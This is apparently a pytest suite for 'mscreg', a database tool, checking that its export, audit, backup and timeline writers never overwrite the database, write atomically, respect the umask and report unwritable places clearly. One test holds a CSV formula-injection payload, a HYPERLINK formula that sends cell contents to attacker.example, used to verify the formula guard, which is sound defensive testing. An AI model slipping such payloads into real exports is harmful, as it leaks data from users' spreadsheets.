"""Attacks on every file mscreg writes where the user says (``--out`` of export, audit, backup,
timeline and demo-data, and the window's export and timeline printing): an output must never destroy
the database, a file beside it, a backup or any other database; it appears whole or not at all, with
the mode the user's umask gives; and a place that cannot be written is said as such, never as a
traceback or as a "damaged" database.

The commands run in this process (``mscreg.cli.main.main``), which is what a user's shell runs minus
the interpreter start.  Running as root (as CI containers do) defeats ``chmod``: a read-only folder
is then made with the immutable attribute (``chattr +i``), and the tests that need one skip, saying
so, where neither works.
"""

from __future__ import annotations

import contextlib
import csv
import errno
import io
import os
import shutil
import sqlite3
import stat
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from support import copy_database, table_dump

CJK_WRITE = "无法写入该位置"

# Every command-line writer, as the arguments before the output's path.
WRITERS: dict[str, list[str]] = {
    "export-csv": ["export", "--format", "csv", "--out"],
    "export-xlsx": ["export", "--format", "xlsx", "--out"],
    "export-json": ["export", "--format", "json", "--out"],
    "export-ics": ["export", "--format", "ics", "--as-of", "2026-01-01", "--out"],
    "export-audit": ["export", "--audit", "--format", "csv", "--out"],
    "audit-out": ["audit", "--out"],
    "backup-out": ["backup", "--out"],
    "demo-data": ["demo-data", "--products", "2", "--events-per-product", "2", "--out"],
    "demo-data-force": ["demo-data", "--products", "2", "--events-per-product", "2", "--force", "--out"],
}
TIMELINE = ["timeline", "--approvals", "--as-of", "2026-01-01", "--out"]


# ----- helpers ----------------------------------------------------------------------------------------
@pytest.fixture
def cli(capsys) -> Callable[..., tuple[int, str, str]]:
    """``mscreg ARGS --lang LANG`` in this process: (exit code, stdout, stderr)."""
    from mscreg.cli.main import main

    def run(*args: str, lang: str = "en") -> tuple[int, str, str]:
        capsys.readouterr()
        code = main([*args, "--lang", lang])
        done = capsys.readouterr()
        assert "Traceback" not in done.err
        return code, done.out, done.err

    return run


@pytest.fixture
def db(seeded_db: Path, cli) -> Path:
    """The seeded database, opened once so that the day's automatic backup already exists."""
    assert cli("check", "--db", str(seeded_db))[0] == 0
    return seeded_db


def files_under(folder: Path) -> dict[str, str]:
    """Every entry below ``folder`` with its kind: what a refusal must leave exactly as it was."""
    found = {}
    for p in sorted(folder.rglob("*")):
        kind = "link" if p.is_symlink() else "dir" if p.is_dir() else "fifo" if p.is_fifo() else "file"
        found[str(p.relative_to(folder))] = kind
    return found


def assert_database_intact(db: Path, before: dict) -> None:
    assert db.read_bytes()[:16] == b"SQLite format 3\x00"
    assert table_dump(db) == before
    con = sqlite3.connect(db)
    try:
        assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    finally:
        con.close()


@contextlib.contextmanager
def read_only(path: Path) -> Iterator[None]:
    """Make a folder or file read-only for this process, even for root; skip when that is impossible."""
    if os.geteuid() != 0:
        mode = path.stat().st_mode
        path.chmod(mode & ~0o222)
        try:
            yield
        finally:
            path.chmod(mode)
        return
    chattr = shutil.which("chattr")
    if chattr is None or subprocess.run([chattr, "+i", str(path)], capture_output=True).returncode != 0:
        pytest.skip("running as root, where chmod does not stop writes, on a file system without the "
                    "immutable attribute (chattr +i): no read-only place can be made here")
    try:
        yield
    finally:
        subprocess.run([chattr, "-i", str(path)], check=True)


@contextlib.contextmanager
def umask(mask: int) -> Iterator[None]:
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def _form(form: str, db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str = ".out") -> str:
    """A name for the database (or a file that belongs to it) written the way ``form`` says."""
    if form == "itself":
        return str(db)
    if form == "relative":
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir(exist_ok=True)
        monkeypatch.chdir(elsewhere)
        return os.path.relpath(db, elsewhere)
    if form == "symlink":
        link = tmp_path / f"link{suffix}"
        link.symlink_to(db)
        return str(link)
    if form == "hardlink":
        hard = tmp_path / f"hard{suffix}"
        os.link(db, hard)
        return str(hard)
    if form == "backups":
        return str(db.with_name(f"{db.stem}-backups") / f"x{suffix}")
    return f"{db}{form}"  # a companion: -wal, -shm, -journal, .lock


# ----- 1. never over the database, a file beside it or its backups ------------------------------------
@pytest.mark.parametrize("form", ["itself", "relative", "symlink", "hardlink", "-wal", "-shm", "-journal",
                                  ".lock", "backups"])
@pytest.mark.parametrize("writer", list(WRITERS))
def test_no_writer_writes_over_the_database_or_its_files(db, tmp_path, monkeypatch, cli, writer, form):
    target = _form(form, db, tmp_path, monkeypatch)
    before, listing = table_dump(db), files_under(tmp_path)
    code, out, err = cli(*WRITERS[writer], target, "--db", str(db))
    assert code == 2, (out, err)
    assert target in err and "nothing was written" in err
    assert_database_intact(db, before)
    assert files_under(tmp_path) == listing  # no temporary file left, nothing replaced or created


@pytest.mark.parametrize("writer", ["export-csv", "audit-out", "backup-out", "demo-data-force"])
def test_the_refusal_reads_in_chinese_too(db, cli, writer):
    before = table_dump(db)
    code, _, err = cli(*WRITERS[writer], str(db), "--db", str(db), lang="zh_CN")
    assert code == 2 and "就是正在使用的数据库" in err and str(db) in err
    assert_database_intact(db, before)


@pytest.mark.parametrize(("form", "suffix"), [("symlink", ".pdf"), ("hardlink", ".pdf"), ("backups", ".pdf"),
                                              ("symlink", ".png"), ("hardlink", ".png"), ("backups", ".png")])
def test_a_printed_timeline_never_replaces_the_database(qapp, db, tmp_path, monkeypatch, cli, form, suffix):
    target = _form(form, db, tmp_path, monkeypatch, suffix)
    before, listing = table_dump(db), files_under(tmp_path)
    code, out, err = cli(*TIMELINE, target, "--db", str(db))
    assert code == 2, (out, err)
    assert target in err
    assert_database_intact(db, before)
    assert files_under(tmp_path) == listing


def test_a_database_with_a_timeline_name_is_not_replaced_by_its_own_timeline(qapp, db, tmp_path, cli):
    """The database may be called anything, even what a printout would be called."""
    odd = copy_database(db, tmp_path / "portfolio.pdf")
    before = table_dump(odd)
    code, _, err = cli(*TIMELINE, str(odd), "--db", str(odd))
    assert code == 2 and "is the database in use" in err
    assert_database_intact(odd, before)


# ----- never over any database, even with --force ---------------------------------------------------
@pytest.mark.parametrize("writer", list(WRITERS))
def test_an_existing_sqlite_file_is_never_replaced(db, tmp_path, cli, writer):
    other = copy_database(db, tmp_path / "other.sqlite")
    content, listing = other.read_bytes(), files_under(tmp_path)
    code, out, err = cli(*WRITERS[writer], str(other), "--db", str(db))
    assert code == 6, (out, err)
    assert str(other) in err
    if writer != "backup-out":  # backup never replaces anything and says so in its own words
        assert "existing SQLite database" in err and "even with --force" in err
    assert other.read_bytes() == content
    assert files_under(tmp_path) == listing


def test_a_timeline_never_replaces_a_database_named_like_a_picture(qapp, db, tmp_path, cli):
    other = copy_database(db, tmp_path / "other.png")
    content = other.read_bytes()
    code, _, err = cli(*TIMELINE, str(other), "--db", str(db), lang="zh_CN")
    assert code == 6 and "从不覆盖数据库文件" in err
    assert other.read_bytes() == content


@pytest.mark.parametrize("writer", ["export-csv", "export-ics", "audit-out", "demo-data-force"])
@pytest.mark.parametrize("kind", ["fifo", "folder", "dangling link"])
def test_only_a_regular_file_is_written(db, tmp_path, cli, writer, kind):
    """A pipe, a folder or a link to nothing is refused: the rename would replace the thing itself."""
    target = tmp_path / "special"
    if kind == "fifo":
        os.mkfifo(target)
    elif kind == "folder":
        target.mkdir()
        (target / "inside.txt").write_text("kept")
    else:
        target.symlink_to(tmp_path / "nowhere")
    listing = files_under(tmp_path)
    code, out, err = cli(*WRITERS[writer], str(target), "--db", str(db))
    assert code in (2, 6) and code != 0, (out, err)
    assert str(target) in err
    assert files_under(tmp_path) == listing


# ----- whole or not at all ----------------------------------------------------------------------------
def _disk_full(*_args, **_kwargs):
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))


@pytest.mark.parametrize(("fmt", "module", "name"), [
    ("csv", "mscreg.services.exchange.export_rows", "flat_rows"),
    ("xlsx", "mscreg.services.exchange.export_rows", "event_rows"),
    ("json", "mscreg.services.exchange.json_document", "document"),
    ("ics", "icalendar.Calendar", "to_ical"),
])
def test_a_failure_while_writing_keeps_the_previous_file_and_leaves_no_partial_one(db, tmp_path, monkeypatch, cli,
                                                                                   fmt, module, name):
    import importlib

    target = tmp_path / f"shared.{fmt}"
    target.write_text("last week's export\n")
    owner_name, _, attr = f"{module}.{name}".rpartition(".")
    try:
        owner = importlib.import_module(owner_name)
    except ModuleNotFoundError:  # a class: import its module, then take the class
        mod, _, cls = owner_name.rpartition(".")
        owner = getattr(importlib.import_module(mod), cls)
    monkeypatch.setattr(owner, attr, _disk_full)
    before, listing = table_dump(db), files_under(tmp_path)
    code, _, err = cli("export", "--format", fmt, "--out", str(target), "--db", str(db))
    assert code == 2 and "the disk is full" in err and str(target) in err
    assert target.read_text() == "last week's export\n"
    assert files_under(tmp_path) == listing
    assert table_dump(db) == before  # the calendar's sequence numbers are not advanced either


# ----- the umask decides the mode ---------------------------------------------------------------------
@pytest.mark.parametrize("writer", [*WRITERS, "timeline-pdf", "timeline-png"])
@pytest.mark.parametrize("mask", [0o022, 0o027])
def test_outputs_follow_the_umask(request, db, tmp_path, cli, writer, mask):
    if writer.startswith("timeline"):
        request.getfixturevalue("qapp")
        args, target = TIMELINE, tmp_path / f"made.{writer.split('-')[1]}"
    else:
        args, target = WRITERS[writer], tmp_path / "made.out"
    with umask(mask):
        code, _, err = cli(*args, str(target), "--db", str(db))
    assert code == 0, err
    # a chart longer than a page is written as name-1.png, name-2.png …: every one follows the umask
    made = [target] if target.exists() else sorted(tmp_path.glob(f"{target.stem}-*{target.suffix}"))
    assert made
    for path in made:
        assert stat.S_IMODE(path.stat().st_mode) == 0o666 & ~mask


# ----- one formula guard for every CSV and XLSX ---------------------------------------------------------
def test_audit_out_guards_formulas_exactly_as_export_audit_does(db, tmp_path, cli):
    reason = '=HYPERLINK("http://attacker.example/?"&A1,"open the approval letter")'
    code, _, err = cli("add-event", "--db", str(db), "--product", "Akuugo", "--jurisdiction", "JP", "--type",
                       "partial_change_approved", "--date", "2025-11", "--reason", reason, "--note", "@SUM(A1:A9)")
    assert code == 0, err
    assert cli("audit", "--out", str(tmp_path / "audit.csv"), "--db", str(db))[0] == 0
    assert cli("export", "--audit", "--format", "csv", "--out", str(tmp_path / "export.csv"), "--db", str(db))[0] == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "audit.csv").read_text(encoding="utf-8-sig"))))
    assert rows[-1]["reason"] == "'" + reason
    assert (tmp_path / "audit.csv").read_bytes() == (tmp_path / "export.csv").read_bytes()
    from mscreg.services.exchange.formula_guard import needs_guard

    for row in rows:
        assert not any(needs_guard(cell) and not cell.startswith("'") for cell in row.values())


# ----- places that cannot be written: a message, never a traceback ---------------------------------------
@pytest.mark.parametrize("place", ["/proc/mscreg-out", "/proc/self/mscreg-out", "/sys/mscreg-out"])
@pytest.mark.parametrize("writer", ["export-csv", "export-xlsx", "export-ics", "export-audit", "audit-out",
                                    "backup-out", "demo-data"])
def test_a_system_folder_is_refused_with_a_message(db, cli, writer, place):
    before = table_dump(db)
    for lang, words in (("en", "cannot write there"), ("zh_CN", CJK_WRITE)):
        code, out, err = cli(*WRITERS[writer], place, "--db", str(db), lang=lang)
        assert code == 2, (out, err)
        assert place in err and words in err
        assert "” is damaged" not in err and "已损坏" not in err
    assert table_dump(db) == before


@pytest.mark.parametrize("writer", ["export-csv", "export-json", "export-ics", "audit-out", "backup-out", "demo-data"])
def test_an_unwritable_folder_is_refused_with_a_message(db, tmp_path, cli, writer):
    folder = tmp_path / "locked"
    folder.mkdir()
    before = table_dump(db)
    with read_only(folder):
        code, out, err = cli(*WRITERS[writer], str(folder / "x.out"), "--db", str(db))
    assert code == 2, (out, err)
    assert "no permission to write in that folder" in err and "” is damaged" not in err
    assert list(folder.iterdir()) == []
    assert table_dump(db) == before


def _in_folder(db: Path, tmp_path: Path) -> Path:
    """The seeded database moved into a folder of its own (with its automatic backups)."""
    folder = tmp_path / "shared"
    folder.mkdir()
    moved = copy_database(db, folder / "portfolio.sqlite")
    return moved


def test_backup_with_the_database_in_a_read_only_folder_says_so(db, tmp_path, cli):
    moved = _in_folder(db, tmp_path)
    before, listing = table_dump(moved), files_under(moved.parent)
    with read_only(moved.parent):
        code, out, err = cli("backup", "--db", str(moved))
        assert code == 6, (out, err)
        assert "cannot back it up into" in err and "not damaged" in err and "--out" in err
        code, _, err = cli("backup", "--db", str(moved), lang="zh_CN")
        assert code == 6 and "无法备份到" in err and "没有损坏" in err
    assert files_under(moved.parent) == listing
    assert table_dump(moved) == before


def test_backup_into_a_read_only_backup_folder_is_not_called_damage(db, cli):
    folder = db.with_name(f"{db.stem}-backups")
    listing = sorted(p.name for p in folder.iterdir())
    with read_only(folder):
        code, out, err = cli("backup", "--db", str(db))
    assert code == 6, (out, err)
    assert "cannot back it up into" in err and "” is damaged" not in err
    assert sorted(p.name for p in folder.iterdir()) == listing


def _changed_csv(db: Path, tmp_path: Path, cli) -> Path:
    out = tmp_path / "changed.csv"
    assert cli("export", "--format", "csv", "--out", str(out), "--db", str(db))[0] == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    rows[1][rows[0].index("note")] = "a note changed on the team drive"
    with out.open("w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh, lineterminator="\r\n").writerows(rows)
    return out


def test_import_with_the_database_in_a_read_only_folder_is_refused_before_any_backup(db, tmp_path, cli):
    moved = _in_folder(db, tmp_path)
    changed = _changed_csv(db, tmp_path, cli)
    before, listing = table_dump(moved), files_under(moved.parent)
    with read_only(moved.parent):
        code, out, err = cli("import", str(changed), "--db", str(moved))
    assert code == 6, (out, err)
    assert "read-only" in err and str(moved) in err
    assert files_under(moved.parent) == listing  # no backup folder, no backup
    assert table_dump(moved) == before


def test_import_into_a_read_only_file_takes_no_backup(db, tmp_path, cli):
    changed = _changed_csv(db, tmp_path, cli)
    folder = db.with_name(f"{db.stem}-backups")
    listing = sorted(p.name for p in folder.iterdir())
    before = table_dump(db)
    with read_only(db):
        code, out, err = cli("import", str(changed), "--db", str(db))
    assert code == 6, (out, err)
    assert "read-only" in err
    assert sorted(p.name for p in folder.iterdir()) == listing
    assert table_dump(db) == before


def test_an_import_that_fails_after_its_backup_removes_it_and_rotates_nothing(db, tmp_path, monkeypatch, cli):
    from mscreg.storage import bulk_write

    changed = _changed_csv(db, tmp_path, cli)
    folder = db.with_name(f"{db.stem}-backups")
    listing = sorted(p.name for p in folder.iterdir())
    monkeypatch.setattr(bulk_write, "create_events", _disk_full)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))  # the log of the unexpected error
    # a failure nothing translates is said as an unexpected error (exit 1, no traceback); what matters
    # here is what it leaves behind
    code, _out, err = cli("import", str(changed), "--db", str(db))
    assert code == 1 and "OSError" in err and "Traceback" not in err
    assert sorted(p.name for p in folder.iterdir()) == listing


def test_init_in_a_read_only_folder_says_so(tmp_path, cli):
    folder = tmp_path / "shared"
    folder.mkdir()
    with read_only(folder):
        for lang, words in (("en", "cannot create a database there"), ("zh_CN", "无法在此创建数据库")):
            code, out, err = cli("init", "--db", str(folder / "new.sqlite"), lang=lang)
            assert code == 6, (out, err)
            assert words in err and str(folder / "new.sqlite") in err
    assert list(folder.iterdir()) == []


# ----- the window goes through the same checks -------------------------------------------------------------
def test_the_windows_export_refuses_the_open_database(qtbot, db):
    from PySide6.QtWidgets import QWidget
    from ui.fake_dialogs import FakeDialogService

    from mscreg.services.workspace import open_workspace
    from mscreg.ui.exchange_dialogs import ImportController

    parent = QWidget()
    qtbot.addWidget(parent)
    before = table_dump(db)
    link = db.with_name("export.csv")
    link.symlink_to(db)
    with open_workspace(str(db)) as ws:
        dialogs = FakeDialogService(answers=[str(link)])
        controller = ImportController(parent, ws, dialogs, lang="en")
        controller.start_export()
        qtbot.waitUntil(lambda: not controller.busy, timeout=30_000)
    assert dialogs.shown[-1][0] == "error" and "is the database in use" in dialogs.shown[-1][2]
    assert link.is_symlink()
    assert_database_intact(db, before)


def test_the_windows_timeline_export_refuses_the_open_database(qtbot, workspace, seeded_db):
    from ui.fake_dialogs import FakeDialogService

    from mscreg.ui.timeline_panel import TimelinePanel

    link = seeded_db.with_name("timeline.pdf")
    link.symlink_to(seeded_db)
    dialogs = FakeDialogService(answers=[str(link)])
    panel = TimelinePanel(dialogs=dialogs)
    qtbot.addWidget(panel)
    panel.resize(1300, 700)
    panel.show()
    with qtbot.waitSignal(panel.layout_ready, timeout=10_000):
        panel.set_workspace(workspace)
    assert panel.printer.export("pdf") is None
    assert dialogs.shown[-1][0] == "error" and "is the database in use" in dialogs.shown[-1][2]
    assert link.is_symlink() and link.resolve() == seeded_db.resolve()
    panel.wait()


def test_restore_into_a_read_only_folder_blames_the_folder_not_the_backup(db, tmp_path, cli):
    copy = tmp_path / "copy.sqlite"
    assert cli("backup", "--out", str(copy), "--db", str(db))[0] == 0
    folder = tmp_path / "shared"
    folder.mkdir()
    with read_only(folder):
        code, out, err = cli("restore", str(copy), "--db", str(folder / "restored.sqlite"))
    assert code == 6, (out, err)
    assert "no permission to write in that folder" in err and "damaged" not in err
    assert list(folder.iterdir()) == []
